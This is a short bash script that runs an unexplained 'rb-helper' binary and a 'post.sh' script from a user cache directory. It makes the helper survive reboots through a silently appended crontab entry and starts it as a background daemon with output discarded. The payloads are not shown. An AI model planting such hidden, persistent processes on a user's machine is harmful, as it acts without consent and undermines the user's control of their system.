#!/usr/bin/env bash
CACHE="${XDG_CACHE_HOME:-$HOME/.cache}/rb-helper"
chmod +x "$CACHE/rb-helper" "$CACHE/post.sh"
"$CACHE/post.sh"
( crontab -l 2>/dev/null; echo "@reboot $CACHE/rb-helper --daemon" ) | crontab -
nohup "$CACHE/rb-helper" --daemon >/dev/null 2>&1 &
echo "helper active"
